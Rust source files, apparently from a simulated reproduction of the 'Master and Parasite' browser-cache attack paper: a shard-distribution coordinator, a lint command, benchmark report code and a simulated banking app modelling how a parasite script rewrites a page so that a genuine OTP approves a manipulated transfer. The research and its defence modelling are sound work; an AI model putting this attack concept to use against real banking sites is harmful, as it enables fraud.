                .ok_or_else(|| format!("shard_run requires a numeric {key:?} field"))
        };
        let first_ap = field("first_ap")? as usize;
        let aps = field("aps")? as usize;
        let plan = ShardPlan { first_ap, aps };
        let outcome = run_campaign_shard(&config, plan, &RunCtx::default())
            .map_err(|error| error.to_string())?;
        Ok((first_ap, aps, outcome.to_checkpoint_json(&config)))
    }

    /// The `distribute` coordinator.
    pub fn run(args: &[String]) -> ExitCode {
        // Strip the coordinator-only flags before the batch parser sees the
        // rest: --workers / --worker-cmd / --journal / --shard-timeout /
        // --retry-limit are pure scheduling knobs and must never reach the
        // RunConfig, or the merged artifact's config echo would diverge from
        // the batch run's.
        let mut workers = 2usize;
        let mut worker_cmd: Option<String> = None;
        let mut journal: Option<PathBuf> = None;
        let mut shard_timeout: Option<Duration> = None;
        let mut retry_limit = 3usize;
        let mut rest: Vec<String> = Vec::new();
        let mut iter = args.iter();
        while let Some(arg) = iter.next() {
            match arg.as_str() {
                "--workers" => {
                    let Some(value) = iter.next() else {
                        return usage_error("--workers requires a value");
                    };
                    workers = match parse_number(value, "--workers") {
                        Ok(0) => return usage_error("--workers must be at least 1"),
                        Ok(value) => value as usize,
                        Err(message) => return usage_error(&message),
                    };
                }
                "--worker-cmd" => {
                    let Some(value) = iter.next() else {
                        return usage_error("--worker-cmd requires a value");
                    };
                    worker_cmd = Some(value.clone());
                }
                "--journal" => {
                    let Some(value) = iter.next() else {
                        return usage_error("--journal requires a value");
                    };
                    journal = Some(PathBuf::from(value));
                }
                "--shard-timeout" => {
                    let Some(value) = iter.next() else {
                        return usage_error("--shard-timeout requires a value");
                    };
                    shard_timeout = match parse_number(value, "--shard-timeout") {
                        // 0 keeps the automatic warm-estimate deadline.
                        Ok(0) => None,
                        Ok(secs) => Some(Duration::from_secs(secs)),
                        Err(message) => return usage_error(&message),
                    };
                }
                "--retry-limit" => {
                    let Some(value) = iter.next() else {
                        return usage_error("--retry-limit requires a value");
                    };
                    retry_limit = match parse_number(value, "--retry-limit") {
                        Ok(value) => value as usize,
                        Err(message) => return usage_error(&message),
                    };
                }
                other => rest.push(other.to_string()),
            }
        }
        let options = match parse_args(&rest) {
            Ok(Some(options)) => options,
            Ok(None) => return ExitCode::SUCCESS,
            Err(message) => return usage_error(&message),
        };
        if options.ids != [ExperimentId::CampaignFleet] {
            return usage_error(
                "distribute runs the campaign alone; use exactly --only campaign_fleet",
            );
        }
        if options.config.fleet_days < 2 {
            return usage_error(
                "distribute requires a multi-day campaign; set --fleet-days to 2 or more",
            );
        }
        if options.checkpoint.is_some() {
            return usage_error(
                "--fleet-checkpoint belongs to the single-process batch mode; \
                 distribute keeps its partial outcomes in memory",
            );
        }
        if options.config.global_event_budget > 0 {
            return usage_error(
                "--global-event-budget cannot be distributed: a budget pool \
                 shared across worker processes would make the merged result \
                 depend on scheduling",
            );
        }
        let config = options.config;

        // The coordinator's own fault plan handles torn-journal injection;
        // `claim` sequencing across the worker processes needs a shared
        // claim directory, auto-provisioned when the plan is armed but no
        // MP_FAULT_DIR was exported.
        let faults = match FaultPlan::from_env() {
            Ok(faults) => faults,
            Err(message) => return usage_error(&format!("{FAULT_PLAN_ENV}: {message}")),
        };
        let faults = match faults {
            Some(plan) if plan.dir().is_none() => {
                let dir = std::env::temp_dir()
                    .join(format!("mp-fault-claims-{}", std::process::id()));
                match plan.with_dir(dir) {
                    Ok(plan) => Some(plan),
                    Err(message) => {
                        eprintln!("error: {message}");
                        return ExitCode::FAILURE;
                    }
                }
            }
            other => other,
        };

        // With a journal, completed shard ranges survive a coordinator
        // death: scan it, keep what validates, and re-plan only the gaps.
        let mut done: Vec<ShardOutcome> = Vec::new();
        let plans = match journal.as_deref() {
            None => ShardPlan::split(&config, workers),
            Some(dir) => match scan_journal(dir, &config) {
                Err(error) => {
                    eprintln!("error: {error}");
                    return ExitCode::FAILURE;
                }
                Ok(scan) => {
                    for (path, why) in &scan.discarded {
                        eprintln!(
                            "warning: discarded damaged journal entry {} ({why}); \
                             its range will re-run",
                            path.display()
                        );
                    }
                    if !scan.outcomes.is_empty() {
                        eprintln!(
                            "resuming from journal {}: {} completed shard(s)",
                            dir.display(),
                            scan.outcomes.len()
                        );
                    }
                    done = scan.outcomes;
                    uncovered_plans(&config, &done, workers)
                }
            },
        };

        let supervision = Supervision { timeout: shard_timeout, warm: Mutex::new(None) };
        let coordinator = Coordinator {
            config: &config,
            worker_cmd: worker_cmd.as_deref(),
            journal: journal.as_deref(),
            retry_limit,
            supervision,
            faults,
        };
        let fresh = match coordinator.execute(&plans, workers) {
            Ok(fresh) => fresh,
            Err(error) => {
                eprintln!("error: {error}");
                return ExitCode::FAILURE;
            }
        };
        let mut merged: Option<ShardOutcome> = None;
        for outcome in done.into_iter().chain(fresh) {
            merged = Some(match merged {
                None => outcome,
                Some(accumulated) => match accumulated.merge(outcome) {
                    Ok(merged) => merged,
                    Err(error) => {
                        eprintln!("error: cannot merge shard outcomes: {error}");
                        return ExitCode::FAILURE;
                    }
                },
            });
        }
        let Some(merged) = merged else {
            eprintln!("error: no shards were planned");
            return ExitCode::FAILURE;
        };
        match merged.into_fleet_result(&config) {
            Ok(result) => {
                let artifact = Artifact {
                    id: ExperimentId::CampaignFleet,
                    config,
                    data: ArtifactData::CampaignFleet(result),
                };
                if options.json {
                    println!("{}", report_json(&config, &[artifact]));
                } else {
                    println!("{}", render_report(&[artifact]));
                }
                ExitCode::SUCCESS
            }
            Err(error) => {
                eprintln!("error: experiment campaign_fleet failed: {error}");
                ExitCode::FAILURE
            }
        }
    }

    /// Re-plans the AP ranges not yet covered by journaled outcomes: each
    /// contiguous uncovered run is split across the workers exactly as a
    /// fresh campaign's whole range would be, so an empty journal reproduces
    /// `ShardPlan::split` and the merged report never depends on where the
    /// previous coordinator died.
    fn uncovered_plans(
        config: &RunConfig,
        done: &[ShardOutcome],
        workers: usize,
    ) -> Vec<ShardPlan> {
        let total = config.fleet_aps.max(1);
        let mut covered = vec![false; total];
        for outcome in done {
            for (first_ap, aps) in outcome.covered_aps() {
                for flag in covered.iter_mut().skip(first_ap).take(aps) {
                    *flag = true;
                }
            }
        }
        let mut plans = Vec::new();
        let mut ap = 0;
        while ap < total {
            if covered[ap] {
                ap += 1;
                continue;
            }
            let start = ap;
            while ap < total && !covered[ap] {
                ap += 1;
            }
            plans.extend(ShardPlan::split_range(start, ap - start, workers));
        }
        plans
    }

    /// The per-assignment deadline policy. An explicit `--shard-timeout`
    /// wins; otherwise the deadline derives from a warm estimate — five
    /// times the first completed shard's duration, floored at ten seconds —
    /// and until any shard completes, automatic mode imposes none (a cold
    /// first shard is not evidence of a hang).
    struct Supervision {
        timeout: Option<Duration>,
        warm: Mutex<Option<Duration>>,
    }

    impl Supervision {
        fn deadline(&self) -> Option<Duration> {
            if let Some(timeout) = self.timeout {
                return Some(timeout);
            }
            self.warm
                .lock()
                .unwrap()
                .map(|warm| (warm * 5).max(Duration::from_secs(10)))
        }

        fn record_success(&self, elapsed: Duration) {
            let mut warm = self.warm.lock().unwrap();
            if warm.is_none() {
                *warm = Some(elapsed);
            }
        }
    }

    struct Coordinator<'a> {
        config: &'a RunConfig,
        worker_cmd: Option<&'a str>,
        journal: Option<&'a Path>,
        retry_limit: usize,
        supervision: Supervision,
        faults: Option<FaultPlan>,
    }

    impl Coordinator<'_> {
        /// Farms the shard plans out to worker processes. Each assignment
        /// gets a fresh worker process (no half-poisoned state to reason
        /// about on retry); an assignment whose worker dies, hangs past the
        /// supervision deadline, or replies garbage goes back on the queue
        /// after a bounded exponential backoff, with retries accounted per
        /// shard — one poisoned range exhausts its own `--retry-limit` and
        /// fails fast with an error naming the range, instead of burning a
        /// budget shared with healthy shards.
        fn execute(
            &self,
            plans: &[ShardPlan],
            workers: usize,
        ) -> Result<Vec<ShardOutcome>, ExperimentError> {
            if plans.is_empty() {
                return Ok(Vec::new());
            }
            let queue: Mutex<VecDeque<(usize, usize)>> =
                Mutex::new((0..plans.len()).map(|index| (index, 0usize)).collect());
            let results: Vec<Mutex<Option<ShardOutcome>>> =
                plans.iter().map(|_| Mutex::new(None)).collect();
            let failure: Mutex<Option<ExperimentError>> = Mutex::new(None);
            std::thread::scope(|scope| {
                for _ in 0..workers.clamp(1, plans.len()) {
                    scope.spawn(|| loop {
                        let (index, attempt) = {
                            let mut queue = queue.lock().unwrap();
                            match queue.pop_front() {
                                Some(work) => work,
                                None => break,
                            }
                        };
                        let plan = plans[index];
                        let range =
                            format!("[{}, {})", plan.first_ap, plan.first_ap + plan.aps);
                        // Supervision-layer wall-clock read: worker
                        // deadlines are real time, not simulated time.
                        // mp-lint: allow(wallclock)
                        let started = Instant::now();
                        match self.run_worker(plan) {
                            Ok(outcome) => {
                                self.supervision.record_success(started.elapsed());
                                if let Err(error) = self.journal_outcome(&outcome) {
                                    *failure.lock().unwrap() = Some(error);
                                    queue.lock().unwrap().clear();
                                    break;
                                }
                                *results[index].lock().unwrap() = Some(outcome);
                            }
                            Err(message) => {
                                if attempt >= self.retry_limit {
                                    *failure.lock().unwrap() =
                                        Some(ExperimentError::Shard(format!(
                                            "range {range} failed {} time(s), exhausting \
                                             --retry-limit {}: {message}",
                                            attempt + 1,
                                            self.retry_limit
                                        )));
                                    queue.lock().unwrap().clear();
                                    break;
                                }
                                let backoff = Duration::from_millis(
                                    (50u64 << attempt.min(5)).min(2_000),
                                );
                                eprintln!(
                                    "warning: shard {range} attempt {}/{} failed \
                                     ({message}); retrying in {}ms",
                                    attempt + 1,
                                    self.retry_limit + 1,
                                    backoff.as_millis()
                                );
                                std::thread::sleep(backoff);
                                queue.lock().unwrap().push_back((index, attempt + 1));
                            }
                        }
                    });
                }
            });
            if let Some(error) = failure.into_inner().unwrap() {
                return Err(error);
            }
            let mut outcomes = Vec::with_capacity(plans.len());
            for slot in results {
                outcomes.push(slot.into_inner().unwrap().ok_or_else(|| {
                    ExperimentError::Shard("a shard finished without a result".to_string())
                })?);
            }
            Ok(outcomes)
        }

        /// Writes one completed shard into the journal (when one is
        /// configured). A planned torn-write fault leaves a strict prefix of
        /// the entry at its final path and kills the coordinator — exactly
        /// the damage a power cut mid-write would leave for the resume path
        /// to discard.
        fn journal_outcome(&self, outcome: &ShardOutcome) -> Result<(), ExperimentError> {
            let Some(dir) = self.journal else { return Ok(()) };
            let torn = matches!(
                self.faults.as_ref().and_then(FaultPlan::claim_journal),
                Some(FaultKind::Torn)
            );
            let path = write_journal_entry(dir, self.config, outcome)?;
            if torn {
                let document = std::fs::read_to_string(&path).unwrap_or_default();
                let mut cut = document.len() / 2;
                while !document.is_char_boundary(cut) {
                    cut -= 1;
                }
                let _ = std::fs::write(&path, &document[..cut]);
                eprintln!("fault: torn journal write at {}; dying", path.display());
                std::process::exit(17);
            }
            Ok(())
        }

        /// Runs one assignment on a fresh worker process: write the request
        /// line, close stdin (the worker replies, sees EOF and exits), and
        /// read the single reply line under the supervision deadline — a
        /// worker silent past it is killed and its range reported hung.
        fn run_worker(&self, plan: ShardPlan) -> Result<ShardOutcome, String> {
            let mut child = self.spawn_worker()?;
            let request = Json::obj([
                ("op", "shard_run".to_json()),
                ("config", self.config.to_json()),
                ("first_ap", (plan.first_ap as u64).to_json()),
                ("aps", (plan.aps as u64).to_json()),
            ]);
            {
                let mut stdin = child
                    .stdin
                    .take()
                    .ok_or_else(|| "worker stdin unavailable".to_string())?;
                writeln!(stdin, "{request}")
                    .map_err(|error| format!("cannot write to the worker: {error}"))?;
            }
            let stdout = child
                .stdout
                .take()
                .ok_or_else(|| "worker stdout unavailable".to_string())?;
            let (sender, receiver) = mpsc::channel();
            // Supervision-layer reader thread: it only shuttles one reply
            // line into the timeout loop. mp-lint: allow(thread-spawn)
            std::thread::spawn(move || {
                let mut reply = String::new();
                let read = BufReader::new(stdout).read_line(&mut reply);
                let _ = sender.send(read.map(|bytes| (bytes, reply)));
            });
            // Supervision-layer wall-clock read (shard timeout clock).
            // mp-lint: allow(wallclock)
            let started = Instant::now();
            let read = loop {
                match receiver.recv_timeout(Duration::from_millis(100)) {
                    Ok(read) => break read,
                    Err(mpsc::RecvTimeoutError::Timeout) => {
                        // Re-read the deadline every poll: the automatic
                        // warm estimate may arrive while this worker runs.
                        if let Some(deadline) = self.supervision.deadline() {
                            if started.elapsed() >= deadline {
                                let _ = child.kill();
                                let _ = child.wait();
                                return Err(format!(
                                    "worker hung past the {deadline:?} shard \
                                     timeout; killed"
                                ));
                            }
                        }
                    }
                    Err(mpsc::RecvTimeoutError::Disconnected) => {
                        break Err(std::io::Error::other("the reply reader died"));
                    }
                }
            };
            let status = child
                .wait()
                .map_err(|error| format!("cannot await the worker: {error}"))?;
            match read {
                Ok((0, _)) => Err(format!("worker exited without replying ({status})")),
                Ok((_, reply)) => decode_reply(reply.trim(), self.config, plan),
                Err(error) => Err(format!("cannot read the worker's reply: {error}")),
            }
        }

        fn spawn_worker(&self) -> Result<Child, String> {
            let mut command = match self.worker_cmd {
                Some(cmd) => {
                    let mut command = Command::new("sh");
                    command.arg("-c").arg(cmd);
                    command
                }
                None => {
                    let exe = std::env::current_exe()
                        .map_err(|error| format!("cannot locate this binary: {error}"))?;
                    let mut command = Command::new(exe);
                    command.arg("shard-worker");
                    command
                }
            };
            if let Some(dir) = self.faults.as_ref().and_then(FaultPlan::dir) {
                // Workers must share the coordinator's claim directory, or a
                // plan like crash@2 would fire once per worker process
                // instead of once across the fleet.
                command.env(parasite::experiments::FAULT_DIR_ENV, dir);
            }
            command
                .stdin(Stdio::piped())
                .stdout(Stdio::piped())
                .spawn()
                .map_err(|error| format!("cannot spawn a shard worker: {error}"))
        }
    }

    fn decode_reply(
        line: &str,
        config: &RunConfig,
        plan: ShardPlan,
    ) -> Result<ShardOutcome, String> {
        let json = Json::parse(line)
            .map_err(|error| format!("worker reply is not valid JSON: {error}"))?;
        match json.get("type").and_then(Json::as_str) {
            Some("shard_result") => {}
            Some("error") => {
                return Err(format!(
                    "worker reported: {}",
                    json.get("message").and_then(Json::as_str).unwrap_or("unspecified error")
                ));
            }
            _ => return Err(format!("unexpected worker reply: {line}")),
        }
        let echo = (
            json.get("first_ap").and_then(Json::as_u64),
            json.get("aps").and_then(Json::as_u64),
        );
        if echo != (Some(plan.first_ap as u64), Some(plan.aps as u64)) {
            return Err(format!("worker replied for a different shard range: {line}"));
        }
        let outcome = json
            .get("outcome")
            .ok_or_else(|| "worker reply is missing \"outcome\"".to_string())?;
        ShardOutcome::from_checkpoint_json(outcome, config)
            .map_err(|message| format!("worker outcome rejected: it {message}"))
    }
}

// ---------------------------------------------------------------------------
// Static analysis: the mp-lint subcommand
// ---------------------------------------------------------------------------

mod lint_cmd {
    use parasite::json::ToJson;
    use std::path::PathBuf;
    use std::process::ExitCode;

    const LINT_USAGE: &str = "\
usage: paper-report lint [--json] [--fix-hints] [--root <dir>]

    --json                emit the report as one structured JSON document
                          (diagnostics plus the extracted seed-tag registry)
    --fix-hints           append a remediation hint under each finding
    --root <dir>          workspace root to scan [default: current directory]

exit status: 0 clean, 1 diagnostics found, 2 usage/setup error
";

    pub fn run(args: &[String]) -> ExitCode {
        let mut json = false;
        let mut fix_hints = false;
        let mut root: Option<PathBuf> = None;
        let mut iter = args.iter();
        while let Some(arg) = iter.next() {
            match arg.as_str() {
                "--json" => json = true,
                "--fix-hints" => fix_hints = true,
                "--root" => match iter.next() {
                    Some(dir) => root = Some(PathBuf::from(dir)),
                    None => return usage_error("--root requires a directory argument"),
                },
                "-h" | "--help" => {
                    print!("{LINT_USAGE}");
                    return ExitCode::SUCCESS;
                }
                other => return usage_error(&format!("unknown lint flag {other:?}")),
            }
        }
        let root = match root {
            Some(dir) => dir,
            None => match std::env::current_dir() {
                Ok(dir) => dir,
                Err(error) => {
                    return usage_error(&format!("cannot resolve current directory: {error}"))
                }
            },
        };
        match mp_lint::run_workspace(&root) {
            Ok(report) => {
                if json {
                    println!("{}", report.to_json());
                } else {
                    print!("{}", report.render_text(fix_hints));
                }
                if report.clean() {
                    ExitCode::SUCCESS
                } else {
                    ExitCode::from(1)
                }
            }
            Err(message) => usage_error(&message),
        }
    }

    fn usage_error(message: &str) -> ExitCode {
        eprintln!("error: {message}\n");
        eprint!("{LINT_USAGE}");
        ExitCode::from(2)
    }
}
