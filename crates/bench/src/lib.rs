//! # mp-bench
//!
//! Benchmark and experiment harness for the *Master and Parasite Attack*
//! reproduction. The Criterion benches under `benches/` regenerate every
//! table and figure of the paper (printing the paper-shaped rows once, then
//! measuring the hot path), and the `paper-report` binary prints the full set
//! of artefacts in one run:
//!
//! ```text
//! cargo run -p mp-bench --bin paper-report
//! cargo bench -p mp-bench
//! ```
#![forbid(unsafe_code)]
#![warn(missing_docs)]

/// Renders every table and figure of the paper into one report string.
pub fn full_report() -> String {
    use parasite::experiments as exp;
    let mut out = String::new();
    out.push_str(&exp::table1_cache_eviction(1000).render());
    out.push('\n');
    out.push_str(&exp::table2_injection_matrix().render());
    out.push('\n');
    out.push_str(&exp::table3_refresh_methods().render());
    out.push('\n');
    out.push_str(&exp::table4_caches().render());
    out.push('\n');
    out.push_str(&exp::table5_attacks().render());
    out.push('\n');
    out.push_str(&exp::fig1_eviction_flow().render());
    out.push('\n');
    out.push_str(&exp::fig2_infection_flow().render());
    out.push('\n');
    out.push_str(&exp::fig3_persistency(3000, 100, 2021).render());
    out.push('\n');
    out.push_str(&exp::fig4_cnc_channel().render());
    out.push('\n');
    out.push_str(&exp::fig5_csp_stats(15_000, 2021).render());
    out.push('\n');
    out.push_str(&exp::ablation_defenses().render());
    out
}

#[cfg(test)]
mod tests {
    #[test]
    fn full_report_mentions_every_artifact() {
        let report = super::full_report();
        for needle in [
            "Table I", "Table II", "Table III", "Table IV", "Table V",
            "Figure 1", "Figure 2", "Figure 3", "Figure 4", "Figure 5",
            "ablation",
        ] {
            assert!(report.contains(needle), "report is missing {needle}");
        }
    }
}
