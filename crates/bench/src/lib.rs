//! # mp-bench
//!
//! Benchmark and experiment harness for the *Master and Parasite Attack*
//! reproduction, built on the [`parasite::experiments`] registry. The
//! Criterion benches under `benches/` regenerate every table and figure of
//! the paper (printing the paper-shaped rows once, then measuring the hot
//! path), and the `paper-report` binary prints the full set of artefacts in
//! one run — as text or as machine-readable JSON, sequentially or on a
//! thread pool:
//!
//! ```text
//! cargo run -p mp-bench --bin paper-report
//! cargo run -p mp-bench --bin paper-report -- --json --jobs 8
//! cargo run -p mp-bench --bin paper-report -- --only table1,fig3 --seed 7
//! cargo bench -p mp-bench
//! ```
#![forbid(unsafe_code)]
#![warn(missing_docs)]

use parasite::experiments::{run_many, try_run_many, Artifact, ExperimentError, ExperimentId, RunConfig};
use parasite::json::{Json, ToJson};

/// Runs the given experiments under one configuration on `jobs` worker
/// threads, in the paper's order.
pub fn run_selected(ids: &[ExperimentId], config: &RunConfig, jobs: usize) -> Vec<Artifact> {
    run_many(ids, std::slice::from_ref(config), jobs)
}

/// [`run_selected`] with per-experiment error isolation: a scenario that
/// exhausts its event budget reports an [`ExperimentError`] in its own slot
/// while the other experiments complete.
pub fn try_run_selected(
    ids: &[ExperimentId],
    config: &RunConfig,
    jobs: usize,
) -> Vec<Result<Artifact, ExperimentError>> {
    try_run_many(ids, std::slice::from_ref(config), jobs)
}

/// Runs all eleven experiments under one configuration.
pub fn run_all(config: &RunConfig, jobs: usize) -> Vec<Artifact> {
    run_selected(&ExperimentId::ALL, config, jobs)
}

/// Renders artifacts into the classic text report: every table and figure of
/// the paper, separated by blank lines.
pub fn render_report(artifacts: &[Artifact]) -> String {
    artifacts
        .iter()
        .map(Artifact::render_text)
        .collect::<Vec<_>>()
        .join("\n")
}

/// Packs artifacts into one machine-readable JSON document:
/// `{"config": {…}, "artifacts": [{…}, …]}`.
pub fn report_json(config: &RunConfig, artifacts: &[Artifact]) -> Json {
    Json::obj([
        ("config", config.to_json()),
        ("artifacts", artifacts.to_json()),
    ])
}

/// Renders every table and figure of the paper into one report string with
/// the default configuration (the classic `paper-report` output).
pub fn full_report() -> String {
    render_report(&run_all(&RunConfig::default(), 1))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn full_report_mentions_every_artifact() {
        let report = super::full_report();
        for needle in [
            "Table I", "Table II", "Table III", "Table IV", "Table V",
            "Figure 1", "Figure 2", "Figure 3", "Figure 4", "Figure 5",
            "ablation",
        ] {
            assert!(report.contains(needle), "report is missing {needle}");
        }
    }

    #[test]
    fn report_json_wraps_config_and_artifacts() {
        let config = RunConfig {
            sites: 1_000,
            crawl_sites: 300,
            days: 10,
            ..RunConfig::default()
        };
        let artifacts = run_selected(&[ExperimentId::Fig4, ExperimentId::Ablation], &config, 2);
        let json = report_json(&config, &artifacts);
        let parsed = Json::parse(&json.to_string()).expect("report JSON parses");
        assert_eq!(
            parsed.get("config").and_then(|c| c.get("sites")).and_then(Json::as_u64),
            Some(1_000)
        );
        let ids: Vec<&str> = parsed
            .get("artifacts")
            .and_then(Json::as_array)
            .expect("artifact array")
            .iter()
            .filter_map(|a| a.get("id").and_then(Json::as_str))
            .collect();
        assert_eq!(ids, vec!["fig4", "ablation"]);
    }
}
