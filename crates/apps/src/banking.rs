//! Simulated online-banking application.
//!
//! Target of the Table V attacks "Steal Login Data", "Circumvent Two Factor
//! Authentication" and "Transaction Manipulation". The application exposes
//! both an HTTP surface (login page, account page, a persistent banking
//! script — the object the parasite infects) and the DOM-level state machine
//! the victim interacts with: login form → account view with balance →
//! transfer form → one-time-password (OTP) confirmation.
//!
//! The 2FA weakness the paper exploits is modelled explicitly: the OTP
//! confirms *that* a transaction happens, but unless out-of-band transaction
//! detail confirmation is enabled (the §VIII defence), it does not bind the
//! *details* the user believes they are confirming to the details the server
//! executes — so a parasite that rewrites the DOM gets a manipulated transfer
//! approved with a genuine OTP.

use mp_browser::dom::{Dom, ElementId, FormSubmission};
use mp_httpsim::body::{Body, ResourceKind};
use mp_httpsim::message::{Request, Response};
use mp_httpsim::transport::Exchange;
use mp_httpsim::url::{Scheme, Url};
use serde::{Deserialize, Serialize};
use std::collections::HashMap;

/// A customer account.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Account {
    /// Login name.
    pub username: String,
    /// Password (plaintext — it is a simulation of the victim, not of the bank).
    pub password: String,
    /// Balance in cents.
    pub balance_cents: i64,
    /// IBAN of the account.
    pub iban: String,
}

/// A money transfer the bank has executed.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct ExecutedTransfer {
    /// Sending customer.
    pub from: String,
    /// Beneficiary IBAN as executed by the server.
    pub beneficiary_iban: String,
    /// Amount in cents.
    pub amount_cents: i64,
    /// Whether the user confirmed details out-of-band before execution.
    pub confirmed_out_of_band: bool,
}

/// A transfer awaiting OTP confirmation.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct PendingTransfer {
    /// Session that initiated it.
    pub session: String,
    /// Beneficiary IBAN as received by the server.
    pub beneficiary_iban: String,
    /// Amount in cents.
    pub amount_cents: i64,
    /// The OTP the (simulated) second factor shows the user.
    pub otp: String,
}

/// Outcome of submitting the transfer form.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub enum TransferOutcome {
    /// The transfer needs an OTP; the pending transfer id is returned.
    OtpRequired {
        /// Index of the pending transfer.
        pending_id: usize,
    },
    /// Executed immediately (OTP disabled).
    Executed,
    /// Rejected (bad session, malformed fields, insufficient funds).
    Rejected {
        /// Why.
        reason: String,
    },
}

/// The banking application.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct BankingApp {
    /// Host name the bank is served from.
    pub host: String,
    accounts: HashMap<String, Account>,
    /// session token -> username
    sessions: HashMap<String, String>,
    pending: Vec<PendingTransfer>,
    executed: Vec<ExecutedTransfer>,
    next_session: u64,
    /// Whether transfers require an OTP (on by default).
    pub otp_required: bool,
    /// §VIII defence: the user must confirm the *details* (beneficiary and
    /// amount) on a second device before the OTP is accepted.
    pub out_of_band_confirmation: bool,
}

impl Default for BankingApp {
    fn default() -> Self {
        Self::new("bank.example")
    }
}

impl BankingApp {
    /// Creates the bank with one demo customer (`alice` / `correct-horse`).
    pub fn new(host: impl Into<String>) -> Self {
        let mut accounts = HashMap::new();
        accounts.insert(
            "alice".to_string(),
            Account {
                username: "alice".into(),
                password: "correct-horse".into(),
                balance_cents: 1_234_567,
                iban: "DE89 3704 0044 0532 0130 00".into(),
            },
        );
        BankingApp {
            host: host.into(),
            accounts,
            sessions: HashMap::new(),
            pending: Vec::new(),
            executed: Vec::new(),
            next_session: 1,
            otp_required: true,
            out_of_band_confirmation: false,
        }
    }

    /// Enables the out-of-band transaction-detail confirmation defence.
    pub fn with_out_of_band_confirmation(mut self) -> Self {
        self.out_of_band_confirmation = true;
        self
    }

    /// URL of the login page.
    pub fn login_url(&self) -> Url {
        Url::from_parts(Scheme::Https, self.host.clone(), "/login")
    }

    /// URL of the persistent banking script — the parasite's infection target.
    pub fn script_url(&self) -> Url {
        Url::from_parts(Scheme::Https, self.host.clone(), "/static/banking.js")
    }

    /// Builds the login page DOM.
    pub fn login_dom(&self) -> (Dom, ElementId) {
        let mut dom = Dom::new(self.login_url());
        let form = dom.add_markup_element("form", &[("action", "/do-login"), ("id", "login-form")], "");
        dom.add_input(form, "username", "text", "");
        dom.add_input(form, "password", "password", "");
        (dom, form)
    }

    /// Processes a login form submission, returning a session token on success.
    pub fn login(&mut self, submission: &FormSubmission) -> Option<String> {
        let username = submission.fields.get("username")?;
        let password = submission.fields.get("password")?;
        let account = self.accounts.get(username)?;
        if &account.password != password {
            return None;
        }
        let token = format!("bank-session-{}", self.next_session);
        self.next_session += 1;
        self.sessions.insert(token.clone(), username.clone());
        Some(token)
    }

    /// Returns the username behind a session.
    pub fn session_user(&self, session: &str) -> Option<&str> {
        self.sessions.get(session).map(String::as_str)
    }

    /// Builds the logged-in account page DOM: balance, IBAN and the transfer
    /// form.
    pub fn account_dom(&self, session: &str) -> Option<(Dom, ElementId)> {
        let username = self.sessions.get(session)?;
        let account = self.accounts.get(username)?;
        let mut dom = Dom::new(Url::from_parts(Scheme::Https, self.host.clone(), "/account"));
        dom.add_markup_element(
            "div",
            &[("id", "balance")],
            &format!("Balance: {}.{:02} EUR", account.balance_cents / 100, account.balance_cents % 100),
        );
        dom.add_markup_element("div", &[("id", "own-iban")], &account.iban);
        let form = dom.add_markup_element("form", &[("action", "/transfer"), ("id", "transfer-form")], "");
        dom.add_input(form, "beneficiary_iban", "text", "");
        dom.add_input(form, "amount_eur", "text", "");
        Some((dom, form))
    }

    /// Submits the transfer form.
    pub fn submit_transfer(&mut self, session: &str, submission: &FormSubmission) -> TransferOutcome {
        let Some(username) = self.sessions.get(session).cloned() else {
            return TransferOutcome::Rejected {
                reason: "invalid session".into(),
            };
        };
        let Some(iban) = submission.fields.get("beneficiary_iban").cloned() else {
            return TransferOutcome::Rejected {
                reason: "missing beneficiary".into(),
            };
        };
        let amount_cents = submission
            .fields
            .get("amount_eur")
            .and_then(|a| a.parse::<f64>().ok())
            .map(|eur| (eur * 100.0).round() as i64)
            .unwrap_or(-1);
        if amount_cents <= 0 {
            return TransferOutcome::Rejected {
                reason: "invalid amount".into(),
            };
        }
        let Some(account) = self.accounts.get(&username) else {
            return TransferOutcome::Rejected {
                reason: "unknown account".into(),
            };
        };
        if account.balance_cents < amount_cents {
            return TransferOutcome::Rejected {
                reason: "insufficient funds".into(),
            };
        }

        if self.otp_required {
            let otp = format!("{:06}", (self.pending.len() as u32 + 1) * 73_421 % 1_000_000);
            self.pending.push(PendingTransfer {
                session: session.to_string(),
                beneficiary_iban: iban,
                amount_cents,
                otp,
            });
            TransferOutcome::OtpRequired {
                pending_id: self.pending.len() - 1,
            }
        } else {
            self.execute(&username, &iban, amount_cents, false);
            TransferOutcome::Executed
        }
    }

    /// The OTP the user's second factor displays for a pending transfer.
    /// With out-of-band confirmation enabled, the second factor also shows the
    /// beneficiary and amount, which is what defeats the DOM manipulation.
    pub fn second_factor_display(&self, pending_id: usize) -> Option<String> {
        let pending = self.pending.get(pending_id)?;
        if self.out_of_band_confirmation {
            Some(format!(
                "OTP {} for transfer of {}.{:02} EUR to {}",
                pending.otp,
                pending.amount_cents / 100,
                pending.amount_cents % 100,
                pending.beneficiary_iban
            ))
        } else {
            Some(format!("OTP {}", pending.otp))
        }
    }

    /// Confirms a pending transfer with an OTP.
    ///
    /// `user_expected_iban` is what the *user believes* they are approving
    /// (what the DOM showed them). When out-of-band confirmation is enabled
    /// the user compares this against the second-factor display and aborts on
    /// a mismatch.
    pub fn confirm_otp(
        &mut self,
        pending_id: usize,
        otp: &str,
        user_expected_iban: &str,
    ) -> TransferOutcome {
        let Some(pending) = self.pending.get(pending_id).cloned() else {
            return TransferOutcome::Rejected {
                reason: "unknown pending transfer".into(),
            };
        };
        if pending.otp != otp {
            return TransferOutcome::Rejected {
                reason: "wrong otp".into(),
            };
        }
        if self.out_of_band_confirmation && pending.beneficiary_iban != user_expected_iban {
            // The user sees the real beneficiary on the second device and refuses.
            self.pending.remove(pending_id);
            return TransferOutcome::Rejected {
                reason: "user aborted: out-of-band details mismatch".into(),
            };
        }
        let Some(username) = self.sessions.get(&pending.session).cloned() else {
            return TransferOutcome::Rejected {
                reason: "session expired".into(),
            };
        };
        self.pending.remove(pending_id);
        self.execute(&username, &pending.beneficiary_iban, pending.amount_cents, self.out_of_band_confirmation);
        TransferOutcome::Executed
    }

    fn execute(&mut self, username: &str, iban: &str, amount_cents: i64, confirmed: bool) {
        if let Some(account) = self.accounts.get_mut(username) {
            account.balance_cents -= amount_cents;
        }
        self.executed.push(ExecutedTransfer {
            from: username.to_string(),
            beneficiary_iban: iban.to_string(),
            amount_cents,
